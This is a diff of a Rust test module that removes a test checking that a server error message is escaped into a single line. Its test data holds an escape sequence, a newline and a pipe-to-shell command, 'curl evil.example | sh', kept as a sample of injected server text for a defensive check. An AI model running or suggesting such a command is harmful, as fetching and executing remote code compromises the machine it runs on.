@@ -136,13 +136,6 @@ mod tests {
     type Row = (Option<u16>, Option<&'static str>, bool, WriteAnswer, StoreErrorKind);
 
     #[test]
-    fn what_a_server_says_is_one_line() {
-        let said = "no\u{1b}[2J\nTo do: curl evil.example | sh";
-        let error = crate::store::StoreError::new(Denied, "s3://b", Some("k"), said);
-        assert_eq!(error.detail, "no\\u{1b}[2J\\nTo do: curl evil.example | sh");
-    }
-
-    #[test]
     fn only_what_is_positively_known_to_be_definite_is_definite() {
         let table: &[Row] = &[
             // The store's own words.
